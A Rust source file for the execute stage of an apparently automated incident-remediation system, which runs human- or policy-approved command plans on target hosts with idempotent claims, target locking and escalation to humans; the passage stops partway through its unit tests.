//! execute: runs the approved plan on the target, recording intent before each command and
//! its end after, so a redelivery never runs a command of the same attempt twice.

use futures::future::BoxFuture;
use pitcrew_exec::{BeforeStart, CommandOutput, ExecError};
use pitcrew_model::run::MAX_OUTPUT;
use pitcrew_model::{ApprovalStatus, EventKind, ExecutionRecord, ExecutionStatus, RunState, ServiceSpec, Stage};
use pitcrew_runtime::store::{Claim, TargetLock};
use pitcrew_runtime::{Cx, StageError, StageHandler, Store, StoreError, Transition, WaitNote};
use std::collections::BTreeMap;
use std::sync::Mutex;
use std::time::{Duration, Instant};
use uuid::Uuid;

/// The execute stage.
pub struct Execute {
    /// The gate, judged again here: an approval recorded by a worker whose policy or inventory
    /// was older or looser (a rollout under way) runs nothing this worker's gate refuses.
    pub policy: pitcrew_policy::Policy,
}

/// Deliveries in this process at each command, by (run, attempt, index). A claim without an
/// end is a delivery that died (its command, if its start was marked, is never run again:
/// interrupted; if not, nothing ran and it is claimed anew), unless a live delivery in this
/// process holds it: two copies of one message handled at once.
static AT_COMMAND: Mutex<BTreeMap<CommandKey, usize>> = Mutex::new(BTreeMap::new());

/// A command of a run: (run, attempt, index).
type CommandKey = (Uuid, u32, u32);

/// This delivery's presence at a command, from before its claim until its end is recorded.
struct AtCommand(CommandKey);

impl AtCommand {
    fn enter(key: CommandKey) -> AtCommand {
        *AT_COMMAND.lock().unwrap_or_else(|p| p.into_inner()).entry(key).or_default() += 1;
        AtCommand(key)
    }

    /// Whether another delivery in this process is at the same command.
    fn shared(&self) -> bool {
        AT_COMMAND.lock().unwrap_or_else(|p| p.into_inner()).get(&self.0).is_some_and(|n| *n > 1)
    }
}

impl Drop for AtCommand {
    fn drop(&mut self) {
        let mut at = AT_COMMAND.lock().unwrap_or_else(|p| p.into_inner());
        if let Some(n) = at.get_mut(&self.0) {
            *n -= 1;
            if *n == 0 {
                at.remove(&self.0);
            }
        }
    }
}

/// Whether the gate let this exact plan through. Execution refuses anything else.
pub fn approved(state: &RunState) -> Result<(), String> {
    let Some(plan) = &state.plan else { return Err("no plan to execute".into()) };
    match &state.approval {
        ApprovalStatus::AutoApproved => Ok(()),
        ApprovalStatus::Approved { plan_hash, .. } if *plan_hash == plan.hash() => Ok(()),
        ApprovalStatus::Approved { .. } => Err("the approval names another plan than the one to execute".into()),
        other => Err(format!("plan reached execute without passing the policy gate ({other:?})")),
    }
}

/// The plan to execute must be the one the run recorded when approval committed it, for the
/// incident it recorded: the service (so the host) a plan runs on is the one its approver saw,
/// whatever a message on the bus says (a state with the approved plan and another service
/// would run it on a host whose rules were never checked).
pub fn recorded_approval(incoming: &RunState, stored: &RunState) -> Result<(), String> {
    approved(stored).map_err(|e| format!("Postgres has no approval for this plan: {e}"))?;
    if incoming.incident != stored.incident {
        let (i, s) = (&incoming.incident, &stored.incident);
        let host = |h: &Option<String>| h.clone().unwrap_or_else(|| "(the service's)".into());
        let differs = if i.service != s.service {
            format!("service {} where Postgres recorded service {}", i.service, s.service)
        } else if i.host != s.host {
            format!("host {} where Postgres recorded host {}", host(&i.host), host(&s.host))
        } else {
            "its error, labels or other fields differ from what Postgres recorded".into()
        };
        return Err(format!("the incident on the bus is not this run's: {differs}; refusing to execute"));
    }
    let (Some(want), Some(got)) = (&stored.plan, &incoming.plan) else {
        return Err("no plan to execute".into());
    };
    // The commands themselves, not only their hash: the hash ends each command with a
    // newline, so one command holding a newline hashes as two (`["a\nb"]` as `["a", "b"]`),
    // and would run as one the gate never read.
    if want.commands != got.commands || stored.attempt != incoming.attempt {
        return Err(format!(
            "the plan to execute ({}: {} command(s), attempt {}) is not the approved one ({}: {} command(s), attempt {})",
            got.hash(),
            got.commands.len(),
            incoming.attempt,
            want.hash(),
            want.commands.len(),
            stored.attempt
        ));
    }
    Ok(())
}

/// The policy gate judged again on the plan Postgres recorded as approved, on the host this
/// worker's inventory names: nothing it forbids runs, and nothing that needs a human runs on
/// an automatic approval.
pub fn gated_again(
    policy: &pitcrew_policy::Policy,
    host: &str,
    trusted: &[String],
    stored: &RunState,
) -> Result<(), String> {
    let Some(plan) = &stored.plan else { return Err("no plan to execute".into()) };
    match (policy.gate_on_trusting(host, &plan.commands, trusted), &stored.approval) {
        (pitcrew_policy::GateDecision::Reject { rule, command, reason }, _) => {
            Err(format!("this worker's policy rejects `{command}` ({rule}: {reason}): not executing"))
        }
        (pitcrew_policy::GateDecision::NeedsApproval { rule, command, .. }, ApprovalStatus::AutoApproved) => Err(
            format!("this worker's policy needs a human's approval for `{command}` ({rule}), and the plan was approved by none: not executing"),
        ),
        _ => Ok(()),
    }
}

/// How long a run waits before it looks again at a target another run is remediating (the
/// message is naked: a waiting run holds no slot of the stage): a tenth of how long it has
/// waited, between these bounds.
const TARGET_RETRY: (Duration, Duration) = (Duration::from_millis(500), Duration::from_secs(5));

/// Runs that may wait for one target at once; the next escalates instead of queueing (so many
/// runs of one service at once are a storm for a human, and every waiter is a message the
/// execute consumer keeps pending).
pub const MAX_TARGET_WAITERS: u32 = 16;

/// Past its timeout, how long a command may still take to be gone: the remote `timeout -k 2`
/// sends SIGKILL 2 s after the deadline, and the deadline starts once the command runs, after
/// its claim (a turn for an SSH channel, a connection).
pub const STRAGGLER_GRACE: Duration = Duration::from_secs(10);

/// This copy decided to skip the plan, but command `index` ran under another delivery: the
/// plan has started. Decided again on the next delivery, which finds the attempt started.
fn started_under_another(index: u32, attempt: u32) -> StageError {
    StageError::Wait {
        why: format!(
            "command {index} of attempt {attempt} ran under another delivery after this one decided to skip the \
             plan: deciding again"
        ),
        retry: Duration::from_millis(250),
        note: None,
    }
}

/// How long after its start a command that nobody finished may still be running on `host`.
/// Over SSH its start is marked before its channel opens, which may take up to the host's
/// connect timeout (`pitcrew_exec` gives up on the channel then): the remote command may start
/// that much later, and its remote `timeout` counts from there.
fn straggler_deadline(cfg: &pitcrew_runtime::Config, host: &str) -> Duration {
    let channel = cfg.hosts.get(host).map_or(Duration::ZERO, |h| h.connect_timeout());
    cfg.command_timeout().saturating_add(STRAGGLER_GRACE).saturating_add(channel)
}

/// How long a claim finished as not run (the plan skipped) may stay unfinished before a
/// delivery at the run's step decides it again (it never counts as started: it is removed and
/// claimed anew): ample time to record it.
const SKIP_GONE_AFTER: Duration = Duration::from_secs(30);

/// A command whose claim counts as its start (`Executor::starts_at_once`) and that starts this
/// long after it marks its start (the time it is surely gone by moves with it); a sooner start
/// is inside `STRAGGLER_GRACE`.
const LATE_START: Duration = Duration::from_secs(1);

/// Tries of a command's claim within one delivery when it fails in a way that may pass, with
/// 0.5, 1, 2 and 4 s between them (each try bounded by the store's own timeouts), before the
/// step is handed back; a worker that begins to stop hands it over at once.
const CLAIM_TRIES: u32 = 5;

/// Tries of a command's start mark within its start hook when it fails in a way that may pass,
/// with 0.5 and 1 s between them: the mark sets what it sets under this delivery's own claim,
/// so a mark whose answer was lost after its commit is made again, not taken for a start that
/// may have happened. Short: the command waits at the host's door meanwhile.
const START_TRIES: u32 = 3;

/// A stopping worker leaves the step (`why`) to another: it is looked at again past the last
/// pull the worker may still have out (1 s), so it goes to another worker.
fn hand_over(why: String) -> StageError {
    StageError::Wait { why, retry: Duration::from_secs(2), note: Some(WaitNote::Stopping) }
}

/// How long a command's end is retried while Postgres cannot take it (an outage, a failover)
/// before the step gives up on it: its claim (its start marked) is then left unfinished, and
/// recorded interrupted by a later delivery (outcome unknown; verify decides). The message's
/// progress acks keep it from being redelivered meanwhile; a stopping worker's drain deadline
/// cuts it short.
const FINISH_RETRY_LIMIT: Duration = Duration::from_secs(120);

/// Record how a command that ran ended (`Store::finish_execution`), retrying for up to
/// `FINISH_RETRY_LIMIT` while Postgres cannot take it: the result is known here and nowhere
/// else, so a short outage must not turn a command that succeeded into one whose outcome is
/// unknown.
async fn finish(store: &Store, run: Uuid, rec: &ExecutionRecord, claim: Uuid) -> Result<bool, StoreError> {
    let began = Instant::now();
    let mut wait = Duration::from_millis(500);
    let mut retried = false;
    loop {
        match store.finish_execution(run, rec, claim).await {
            Err(e) if e.is_transient() && began.elapsed() + wait < FINISH_RETRY_LIMIT => {
                tracing::warn!(
                    run = %run, attempt = rec.attempt, index = rec.index, status = ?rec.status, error = %e,
                    retry_in_ms = wait.as_millis() as u64,
                    "cannot record how the command ended: retrying (it ran; its result is known only here)"
                );
                tokio::time::sleep(wait).await;
                wait = (wait * 2).min(Duration::from_secs(5));
                retried = true;
            }
            // A write that landed as its connection failed finds its own record on the retry:
            // recorded, not taken over.
            Ok(false) if retried => {
                return Ok(matches!(
                    store.execution_claim(run, rec.attempt, rec.index).await?,
                    Some(Claim::Finished(found)) if found.status == rec.status && found.exit_code == rec.exit_code
                ));
            }
            done => return done,
        }
    }
}

/// Whether this attempt's diagnosis saw the service's health check fail.
pub fn diagnosed_unhealthy(state: &RunState) -> bool {
    state.evidence.iter().any(|e| e.attempt == state.attempt && e.source == "check" && !e.ok)
}

/// A command of the plan recorded as not run, saying why.
fn not_run(attempt: u32, index: u32, command: &str, why: &str) -> ExecutionRecord {
    ExecutionRecord {
        attempt,
        index,
        command: command.to_string(),
        status: ExecutionStatus::Skipped,
        exit_code: None,
        output: why.to_string(),
        duration_ms: 0,
    }
}

/// How a finished command is recorded.
pub fn record(attempt: u32, index: u32, command: &str, out: &CommandOutput) -> ExecutionRecord {
    let status = if out.timed_out {
        ExecutionStatus::TimedOut
    } else if out.success() {
        ExecutionStatus::Succeeded
    } else {
        ExecutionStatus::Failed
    };
    let mut text = out.stdout.clone();
    if !out.stderr.is_empty() {
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        text.push_str(&out.stderr);
    }
    ExecutionRecord {
        attempt,
        index,
        command: command.to_string(),
        status,
        exit_code: out.exit_code,
        output: pitcrew_model::redact::kept(&text, MAX_OUTPUT),
        duration_ms: out.duration.as_millis() as u64,
    }
}

/// What a run at execute does about its target before the plan's first command.
enum Turn {
    /// Run the plan.
    Run,
    /// Run none of it, recording why for each command.
    Skip(String),
    /// Stop waiting: a human's.
    Escalate(String),
}

/// Take the run's target (its service on its host) for this attempt. Taken, the plan runs,
/// unless another run remediated the target since this one opened, this attempt's diagnosis
/// saw the check fail and the check passes now: a service that passes its check is not
/// remediated again on stale facts. Not taken, the run waits (its message is naked; a waiting
/// run holds no slot of the stage), or escalates past `limits.target_wait_secs` of waiting or
/// behind `MAX_TARGET_WAITERS` others.
async fn turn(state: &RunState, cx: &mut Cx<'_>, spec: &ServiceSpec) -> Result<Turn, StageError> {
    let (service, host) = (&state.incident.service, &spec.host);
    match cx.deps.store.take_target(service, host, state.run_id, state.attempt).await? {
        TargetLock::Busy { holder, waiting, ahead, queue, first } => {
            let who = match (holder, ahead) {
                (Some(run), _) => format!("run {run} is remediating it"),
                (None, 1) => "a run that has waited longer goes first".to_string(),
                (None, n) if n > 1 => format!("{n} runs that have waited longer go first"),
                (None, _) => "it changed hands as this run looked".to_string(),
            };
            let limit = Duration::from_secs(cx.deps.config.limits.target_wait_secs);
            if waiting >= limit {
                return Ok(Turn::Escalate(format!(
                    "waited {} s for {service} on {host} while other runs remediated it or waited ahead of this \
                     one (now {who}): escalating rather than waiting longer",
                    waiting.as_secs()
                )));
            }
            // Runs that came at once may all have joined: the ones past the cap leave at their
            // next look (no run is ever added ahead of one already waiting).
            if queue >= MAX_TARGET_WAITERS {
                let held = holder.map(|run| format!(" (run {run} is remediating it)")).unwrap_or_default();
                return Ok(Turn::Escalate(format!(
                    "{queue} runs are already waiting to remediate {service} on {host}{held}: \
                     escalating rather than queueing behind them"
                )));
            }
            // The next in line looks often: the target is free for nobody else meanwhile.
            let retry = if ahead == 0 { TARGET_RETRY.0 } else { (waiting / 10).clamp(TARGET_RETRY.0, TARGET_RETRY.1) };
            Err(StageError::Wait {
                why: format!("{service} on {host}: {who}"),
                retry,
                note: first.then_some(WaitNote::Target),
            })
        }
        TargetLock::Held { remediated_since: Some(other), started: false } => {
            let (true, Some(check)) = (diagnosed_unhealthy(state), &spec.check) else { return Ok(Turn::Run) };
            let now = pitcrew_exec::run_check(check, host, cx.deps.executor.as_ref()).await;
            let detail = &now.detail;
            let data = serde_json::json!({ "remediated_by": other });
            if now.healthy {
                let why = format!(
                    "not run: run {other} remediated {service} on {host} since this run opened, \
                     and its check passes now ({detail})"
                );
                cx.emit(EventKind::Status, why.clone(), data);
                return Ok(Turn::Skip(why));
            }
            cx.emit(
                EventKind::Status,
                format!(
                    "run {other} remediated {service} on {host} since this run opened; \
                     its check still fails ({detail}): running the plan"
                ),
                data,
            );
            Ok(Turn::Run)
        }
        TargetLock::Held { .. } => Ok(Turn::Run),
    }
}

impl StageHandler for Execute {
    fn stage(&self) -> Stage {
        Stage::Execute
    }

    fn handle<'a>(
        &'a self,
        state: &'a mut RunState,
        cx: &'a mut Cx<'_>,
    ) -> BoxFuture<'a, Result<Transition, StageError>> {
        Box::pin(async move {
            approved(state).map_err(StageError::Poison)?;
            // Postgres is the source of truth: only a plan the gate approved for this run (as
            // recorded when approval committed) runs, whatever a message on the bus claims.
            let Some(run) = cx.deps.store.load_run(state.run_id).await? else {
                return Err(StageError::Poison("no such run in Postgres: refusing to execute".into()));
            };
            if run.status.is_final() {
                // Closed meanwhile (escalated after a poison message, say): nothing more runs.
                cx.emit(
                    EventKind::Error,
                    format!("run is already {}: not executing its plan", run.status.as_str()),
                    serde_json::Value::Null,
                );
                return Ok(Transition::Drop);
            }
            // Postgres behind the bus (a standby that lags, a failover that lost the commit
            // that sent the run here): it does not yet hold the approval this step runs on.
            // Looked at again, never taken for a late delivery and dropped (the run would stay
            // where Postgres has it, with no message); past the delivery limits, dead-lettered
            // and the run escalated, for a human.
            if run.state.seq < state.seq {
                return Err(StageError::Transient(format!(
                    "Postgres holds this run at step {} (seq {}), behind this message (seq {}): \
                     waiting for it to catch up",
                    run.state.step.as_str(),
                    run.state.seq,
                    state.seq
                )));
            }
            // A late delivery (the run moved on, to a next attempt say: its worker died
            // between the commit and the ack) runs nothing, only replays its claims; it is no
            // poison when the approval stored now is another attempt's.
            let at_step = run.state.seq == state.seq && run.state.step == Stage::Execute;
            if at_step {
                recorded_approval(state, &run.state).map_err(StageError::Poison)?;
            }
            let cfg = cx.deps.config.clone();
            let spec = pitcrew_runtime::service_or_escalate!(&cfg, state);
            if at_step {
                if let Err(why) = gated_again(&self.policy, &spec.host, &spec.own_commands(), &run.state) {
                    tracing::error!(run = %state.run_id, "{why}");
                    cx.emit(EventKind::Error, why.clone(), serde_json::Value::Null);
                    return Ok(Transition::Escalate(why));
                }
            }
            let plan = state.plan.clone().expect("checked by approved()");
            let store = cx.deps.store.clone();
            let executor = cx.deps.executor.clone();
            // One remediation at a time on a target: two runs of one service (incidents with
            // different fingerprints: the monitor's and Alertmanager's) never interleave their
            // commands, nor one's commands with the other's verification. Only a delivery of
            // the step the run is at takes it; a late one (the run moved on) replays its claims.
            // Set when the plan is not to run: why, recorded for each of its commands.
            let mut skip: Option<String> = None;
            if at_step {
                match turn(state, cx, spec).await? {
                    Turn::Run => {}
                    Turn::Skip(why) => skip = Some(why),
                    Turn::Escalate(why) => return Ok(Transition::Escalate(why)),
                }
            }
            let mut records = Vec::new();
            let mut stop = false;
            let mut stop_why = String::new();
            for (i, command) in plan.commands.iter().enumerate() {
                let index = i as u32;
                if stop {
                    records.push(not_run(state.attempt, index, command, &stop_why));
                    continue;
                }
                // A command not to run is gone at once; one to run may be running until its
                // timeout and the time to end it have passed (moved on if it starts late).
                let gone_after = if skip.is_some() { SKIP_GONE_AFTER } else { straggler_deadline(&cfg, &spec.host) };
                // A stopping worker starts no command its drain might cut short (its timeout, and
                // the time to end it and record that): the rest of the plan goes to another worker
                // (what ran is replayed from its records).
                if let (true, None, Some(left)) = (at_step, &skip, cx.deps.stopping.short_of(gone_after)) {
                    return Err(hand_over(format!(
                        "worker {} is stopping ({} s of its drain left, a command may need {} s to end): \
                         command {index} of the plan and the rest run on another worker",
                        cx.deps.worker,
                        left.as_secs(),
                        gone_after.as_secs()
                    )));
                }
                let at = AtCommand::enter((state.run_id, state.attempt, index));
                // This delivery's claim: its start is marked under it, and only its own
                // claim is ever released. A command that starts at once after its claim (on
                // this machine) takes the claim as its start: a mark just before the start
                // would leave the same milliseconds unknown, at the cost of a write.
                let token = Uuid::new_v4();
                let claimed_at = Instant::now();
                let claimed_started = skip.is_none() && executor.starts_at_once(&spec.host);
                let claim = if at_step {
                    // A failure that may pass (the connection lost, Postgres restarting) is
                    // tried again within this delivery, under the same token: a claim whose
                    // answer was lost after its commit is then found as this delivery's own,
                    // not as one a later delivery must wait out and record interrupted
                    // though it never ran.
                    let mut tries = 0;
                    loop {
                        tries += 1;
                        match store
                            .claim_execution(
                                state.run_id,
                                state.attempt,
                                index,
                                command,
                                &spec.host,
                                &cx.deps.worker,
                                token,
                                claimed_started,
                                gone_after,
                            )
                            .await
                        {
                            Ok(claim) => break claim,
                            // The run left execute: the next delivery decides what follows.
                            Err(e @ StoreError::Moved(_)) => return Err(e.into()),
                            // A stopping worker hands the step over rather than wait on: what
                            // a lost answer may have claimed is its own, and nothing ran, so
                            // it is released if it can be (else waited out by the next).
                            Err(e) if e.is_transient() && cx.deps.stopping.short_of(gone_after).is_some() => {
                                let _ = store.release_execution(state.run_id, state.attempt, index, token, true).await;
                                return Err(hand_over(format!(
                                    "worker {} is stopping and claiming command {index} failed ({e}): the plan \
                                     runs on another worker",
                                    cx.deps.worker
                                )));
                            }
                            Err(e) if e.is_transient() && tries < CLAIM_TRIES => {
                                tracing::warn!(
                                    run = %state.run_id, attempt = state.attempt, index, tries, error = %e,
                                    "claiming a command failed: trying again"
                                );
                                tokio::time::sleep(Duration::from_millis(250 << tries)).await;
                            }
                            Err(e) => return Err(e.into()),
                        }
                    }
                } else {
                    // A late delivery (the run moved on, or escalated here without running its
                    // plan) replays claims, never makes one: it holds no target.
                    match store.execution_claim(state.run_id, state.attempt, index).await? {
                        Some(claim) => claim,
                        None => {
                            // Its replayed lines would be filed again under a step the run left.
                            cx.take_events();
                            if run.state.seq == state.seq + 1 && run.state.step == Stage::Escalate {
                                // This very step escalated before running anything (a target
                                // waited for too long, a host unreachable) and its publish may
                                // have failed: send the run on again, as it was stored (the
                                // commit rewrites the same transition, the bus deduplicates).
                                let why = run.state.escalation_reason.clone().unwrap_or_default();
                                return Ok(Transition::Escalate(why));
                            }
                            tracing::warn!(
                                run = %state.run_id, attempt = state.attempt, index,
                                "a late delivery of execute found a command never claimed: running nothing"
                            );
                            return Ok(Transition::Drop);
                        }
                    }
                };
                let rec = match claim {
                    // This copy decided to skip the plan (its check passed), but another copy
                    // holding the target before it ran this command: the plan has started,
                    // and skipping the rest would leave it half run. Decided again on the
                    // next delivery, which finds the attempt started and runs the rest.
                    Claim::Finished(rec) if skip.is_some() && rec.status != ExecutionStatus::Skipped => {
                        return Err(started_under_another(index, state.attempt));
                    }
                    Claim::Finished(rec) => rec,
                    Claim::Unfinished { .. } if at.shared() => {
                        // Still running in this process: try again once it has ended. A wait,
                        // never a failure: dead-lettered, the run would leave the step (and its
                        // target to another run) while the command runs.
                        return Err(StageError::Wait {
                            why: format!(
                                "command {index} of attempt {} is running in this process for another copy of this \
                                 message",
                                state.attempt
                            ),
                            retry: Duration::from_secs(1),
                            note: None,
                        });
                    }
                    Claim::Unfinished { running_for, gone_in, unstarted } => 'unfinished: {
                        // Another copy in this process may have finished it between the claim
                        // and the look above (a copy records the end, or releases the claim,
                        // before it leaves the command): then its record is this command's, as
                        // for any finished claim.
                        match store.execution_claim(state.run_id, state.attempt, index).await? {
                            // Run by another copy, in another process too: as above, the plan
                            // has started and is not to be skipped half run.
                            Some(Claim::Finished(rec)) if skip.is_some() && rec.status != ExecutionStatus::Skipped => {
                                return Err(started_under_another(index, state.attempt));
                            }
                            Some(Claim::Finished(rec)) => break 'unfinished rec,
                            // Or released it (nothing ran: a connection failed): claim it anew.
                            None => {
                                return Err(StageError::Transient(format!(
                                    "command {index} of attempt {} was released by another copy as it was looked at",
                                    state.attempt
                                )))
                            }
                            _ => {}
                        }
                        // Its worker died or was stopped mid-command, and the command may still be
                        // running (over SSH until the remote `timeout` ends it): nothing moves on
                        // (verify, a next attempt, another run on the target) before its claim says
                        // it is surely gone (a claim from before that was recorded: by our timeout).
                        let left =
                            gone_in.unwrap_or_else(|| straggler_deadline(&cfg, &spec.host).saturating_sub(running_for));
                        if !left.is_zero() {
                            return Err(StageError::Wait {
                                why: format!(
                                    "command {index} of attempt {} (`{command}`), claimed {} s ago by a delivery \
                                     that never finished it, may still be running on {}: it is looked at again \
                                     once its deadline has passed (recorded interrupted, or run now if it \
                                     never started), in {} s",
                                    state.attempt,
                                    running_for.as_secs(),
                                    spec.host,
                                    left.as_secs().max(1)
                                ),
                                retry: left + Duration::from_millis(250),
                                note: Some(WaitNote::Straggler),
                            });
                        }
                        // Its delivery never started it (it died waiting for its turn on the
                        // host or a connection): nothing ran, so this attempt runs it after all.
                        // (Only a delivery at the run's step: a late one replays, and leaves the
                        // claim to be recorded interrupted.)
                        if let (Some(claim), true) = (unstarted, at_step) {
                            if store.drop_unstarted(state.run_id, state.attempt, index, claim).await? {
                                return Err(StageError::Wait {
                                    why: format!(
                                        "command {index} of attempt {} was claimed by a delivery that never started \
                                         it: claiming it anew",
                                        state.attempt
                                    ),
                                    retry: Duration::from_millis(100),
                                    note: Some(WaitNote::Reclaimed),
                                });
                            }
                        }
                        if !store.mark_interrupted(state.run_id, state.attempt, index).await? {
                            // Finished, or started (late) and given more time, as we looked.
                            return Err(StageError::Wait {
                                why: format!(
                                    "command {index} of attempt {} changed as it was looked at",
                                    state.attempt
                                ),
                                retry: Duration::from_secs(1),
                                note: None,
                            });
                        }
                        ExecutionRecord {
                            attempt: state.attempt,
                            index,
                            command: command.clone(),
                            status: ExecutionStatus::Interrupted,
                            exit_code: None,
                            output: "started by an earlier delivery that never finished: not run again; verify decides"
                                .into(),
                            duration_ms: 0,
                        }
                    }
                    Claim::Claimed => {
                        let started = Instant::now();
                        let rec = if let Some(why) = &skip {
                            // Claimed and finished as not run: a redelivery finds it decided.
                            not_run(state.attempt, index, command, why)
                        } else {
                            let (run_id, attempt) = (state.run_id, state.attempt);
                            let (starts, stopping) = (store.clone(), cx.deps.stopping.clone());
                            // Set when the hook refuses the start, to whether Postgres failed it
                            // in a way that may pass: nothing ran then, whatever the claim's row
                            // says (a mark whose answer was lost set `started`).
                            let refused = std::sync::Arc::new(std::sync::OnceLock::<bool>::new());
                            let refusal = refused.clone();
                            let ready: BeforeStart = Box::new(move || {
                                Box::pin(async move {
                                    let refuse = |store: bool, why: String| {
                                        let _ = refusal.set(store);
                                        Err(why)
                                    };
                                    // Not if the worker began to stop since the look before
                                    // the claim (a turn on its host, a connection, a signal).
                                    if stopping.short_of(gone_after).is_some() {
                                        return refuse(
                                            false,
                                            "the worker began to stop while the command waited".into(),
                                        );
                                    }
                                    // Marked before it starts, after its wait: a claim without
                                    // the mark never started (a later delivery may run it), one
                                    // with it may have (never run again). A claim that counts as
                                    // the start is marked again only for a start long after it,
                                    // to move the time it is surely gone by.
                                    if claimed_started && claimed_at.elapsed() <= LATE_START {
                                        return Ok(());
                                    }
                                    let mut tries = 0;
                                    let marked = loop {
                                        tries += 1;
                                        match starts.command_starts(run_id, attempt, index, token, gone_after).await {
                                            Err(e) if e.is_transient() && tries < START_TRIES => {
                                                tracing::warn!(
                                                    run = %run_id, attempt, index, tries, error = %e,
                                                    "marking a command's start failed: trying again"
                                                );
                                                tokio::time::sleep(Duration::from_millis(250 << tries)).await;
                                            }
                                            marked => break marked,
                                        }
                                    };
                                    match marked {
                                        Ok(true) => Ok(()),
                                        Ok(false) => refuse(
                                            false,
                                            "the command's claim was taken over by another delivery, or its run \
                                             left execute (closed by hand), while it waited for its turn: not \
                                             starting it"
                                                .into(),
                                        ),
                                        Err(e) => {
                                            refuse(e.is_transient(), format!("cannot record the command's start: {e}"))
                                        }
                                    }
                                })
                            });
                            match executor.run_when_ready(&spec.host, command, cfg.command_timeout(), ready).await {
                                Ok(out) => record(state.attempt, index, command, &out),
                                Err(ExecError::Unreachable(e)) => {
                                    // Nothing ran; the host is gone: a human must look. Unless
                                    // another delivery took the claim over while this one
                                    // tried to connect (it may be running the command now):
                                    // the step is its to decide.
                                    if !store
                                        .release_execution(state.run_id, state.attempt, index, token, claimed_started)
                                        .await?
                                    {
                                        return Err(StageError::Wait {
                                            why: format!(
                                                "command {index} of attempt {} was taken over by another delivery \
                                                 while this one could not reach {} ({e})",
                                                state.attempt, spec.host
                                            ),
                                            retry: Duration::from_secs(1),
                                            note: None,
                                        });
                                    }
                                    cx.emit(
                                        EventKind::Error,
                                        format!("cannot reach {}: {e}", spec.host),
                                        serde_json::Value::Null,
                                    );
                                    return Ok(Transition::Escalate(format!("host {} unreachable: {e}", spec.host)));
                                }
                                Err(ExecError::Transient(e)) => {
                                    // Nothing ran (the start refused, a local process that could
                                    // not start, an SSH wait that failed before the start's mark):
                                    // release the claim so the retry can run it. Past the mark (an
                                    // SSH channel that failed as it opened) the command may have
                                    // started: the claim stays, and is recorded interrupted later.
                                    // A start the hook refused never began, though its mark's
                                    // lost answer may have set the claim started.
                                    let hook_refused = refused.get().copied();
                                    let nothing_ran = claimed_started || hook_refused.is_some();
                                    let released = store
                                        .release_execution(state.run_id, state.attempt, index, token, nothing_ran)
                                        .await?;
                                    // A worker stopping now (its start hook saw it, or the
                                    // wait for a connection failed as it stopped) leaves the
                                    // plan to another, as before the claim.
                                    if cx.deps.stopping.short_of(gone_after).is_some() {
                                        return Err(hand_over(format!(
                                            "worker {} began to stop before command {index} of the plan started on \
                                             {} ({e}): it and the rest run on another worker",
                                            cx.deps.worker, spec.host
                                        )));
                                    }
                                    if !released {
                                        // It may be running: the run stays at this step (its
                                        // target held) until the claim says it is surely gone.
                                        // A failure counted towards the dead letter would
                                        // escalate the run and free the target meanwhile.
                                        return Err(StageError::Wait {
                                            why: format!(
                                                "command {index} of attempt {} may have started on {} before its \
                                                 connection failed ({e}): looked at again once its deadline has passed",
                                                state.attempt, spec.host
                                            ),
                                            retry: gone_after + Duration::from_millis(250),
                                            note: Some(WaitNote::Straggler),
                                        });
                                    }
                                    // Postgres failed the start's mark for a passing reason:
                                    // retried whatever the message's deliveries, as any such
                                    // store failure (one that cannot pass counts towards the
                                    // dead letter, as other failed starts do).
                                    return Err(match hook_refused {
                                        Some(true) => StageError::Store(e),
                                        _ => StageError::Transient(e),
                                    });
                                }
                                // A secret this worker does not hold (or cannot use): nothing
                                // ran, and nothing is known of the command. Recorded as not run,
                                // not failed: episodic memory would bar the command for every
                                // worker, those that hold the value too. Verify decides, as for
                                // any plan left alone.
                                Err(ExecError::Secret(e)) => not_run(
                                    state.attempt,
                                    index,
                                    command,
                                    &format!("not run by worker {}: {e}", cx.deps.worker),
                                ),
                                Err(e) => ExecutionRecord {
                                    attempt: state.attempt,
                                    index,
                                    command: command.clone(),
                                    status: ExecutionStatus::Failed,
                                    exit_code: None,
                                    output: e.to_string(),
                                    duration_ms: started.elapsed().as_millis() as u64,
                                },
                            }
                        };
                        if !finish(&store, state.run_id, &rec, token).await? {
                            // Another delivery marked it interrupted while it ran, skipped the
                            // rest and moved the run on: running on would run commands the run
                            // recorded as not run. The retry finds this step decided.
                            tracing::warn!(
                                run = %state.run_id, attempt = state.attempt, index, status = ?rec.status,
                                "another delivery took this step over while its command ran: nothing more runs here"
                            );
                            return Err(StageError::Transient(format!(
                                "command {index} of attempt {} was taken over by another delivery while it ran",
                                state.attempt
                            )));
                        }
                        rec
                    }
                };
                if rec.status != ExecutionStatus::Succeeded && !stop {
                    stop = true;
                    // The rest of a plan left alone is left alone for the same reason.
                    stop_why = match (rec.status, &skip) {
                        (ExecutionStatus::Skipped, Some(_)) => rec.output.clone(),
                        (ExecutionStatus::Skipped, None) => {
                            format!("not run: command {index} of the plan could not start")
                        }
                        _ => "not run: an earlier command of the plan did not succeed".into(),
                    };
                }
                cx.emit(
                    EventKind::Execution,
                    format!(
                        "`{}` -> {:?}{}",
                        rec.command,
                        rec.status,
                        rec.exit_code.map(|c| format!(" (exit {c})")).unwrap_or_default()
                    ),
                    serde_json::to_value(&rec).unwrap_or_default(),
                );
                records.push(rec);
            }
            state.executions = records;
            Ok(Transition::To(Stage::Verify))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pitcrew_model::{Incident, Plan};

    #[test]
    fn an_ssh_command_may_still_run_for_its_channel_open_time_longer() {
        let cfg = pitcrew_runtime::Config::from_toml(
            "[limits]\ncommand_timeout_secs = 60\n[hosts.pe1]\naddress = \"10.0.0.1\"\nuser = \"s\"\n\
             connect_timeout_secs = 7\n",
        )
        .unwrap();
        assert_eq!(straggler_deadline(&cfg, "local"), Duration::from_secs(60) + STRAGGLER_GRACE);
        assert_eq!(straggler_deadline(&cfg, "pe1"), Duration::from_secs(60 + 7) + STRAGGLER_GRACE);
    }

    #[test]
    fn only_an_approved_plan_executes() {
        let mut s = RunState::new(uuid::Uuid::nil(), Incident::new("web", "down"));
        assert!(approved(&s).is_err());
        s.plan = Some(Plan { attempt: 1, commands: vec!["a".into()], rationale: String::new(), source: String::new() });
        assert!(approved(&s).is_err(), "unchecked plan must not run");
        s.approval = ApprovalStatus::Waiting { plan_hash: "x".into(), rule: "r".into() };
        assert!(approved(&s).is_err());
        s.approval = ApprovalStatus::Approved { by: "ann".into(), plan_hash: "stale".into() };
        assert!(approved(&s).is_err(), "approval of another plan must not run this one");
        let hash = s.plan.as_ref().unwrap().hash();
        s.approval = ApprovalStatus::Approved { by: "ann".into(), plan_hash: hash };
        assert!(approved(&s).is_ok());
        s.approval = ApprovalStatus::AutoApproved;
